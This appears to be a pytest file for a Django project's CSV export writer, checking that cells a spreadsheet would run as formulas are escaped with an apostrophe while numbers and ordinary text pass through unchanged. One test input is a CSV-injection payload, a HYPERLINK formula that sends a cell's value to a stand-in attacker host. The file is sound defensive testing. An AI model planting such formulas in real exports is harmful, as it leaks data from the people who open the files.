"""Every CSV journey writes goes through one writer that keeps spreadsheet formulae from running (OWASP CSV
injection): a text cell starting with = + - @ tab or carriage return gets a leading apostrophe; numbers stay numbers."""

import csv
import io
from decimal import Decimal

from django.utils.translation import gettext_lazy

from journey.core.csv_export import csv_response, safe_cell, writer


def written(rows):
    buffer = io.StringIO()
    writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


def test_text_cells_that_a_spreadsheet_would_run_as_a_formula_are_escaped():
    cells = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    assert written([cells]) == [["'" + cell for cell in cells]]


def test_numbers_stay_readable_numbers_even_when_negative():
    assert written([[-3, Decimal("-5.50"), Decimal("12.00"), 2.5, 0, None]]) == [["-3", "-5.50", "12.00", "2.5",
                                                                                    "0", ""]]
    assert safe_cell(Decimal("1E+2")) == "100"


def test_ordinary_text_and_lazy_translations_are_written_as_they_are():
    assert written([["Landed from a campaign", gettext_lazy("visits"), "a=b", "e-mail", "café"]]) == [
        ["Landed from a campaign", "visits", "a=b", "e-mail", "café"]]


def test_the_response_is_an_attachment_and_can_stream():
    response = csv_response([["a", "=1"]], "map.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="map.csv"'
    assert response.content.decode() == "a,'=1\r\n"
    streamed = csv_response(iter([["b", "-x"]]), "codes.csv", stream=True)
    assert b"".join(streamed.streaming_content).decode() == "b,'-x\r\n"
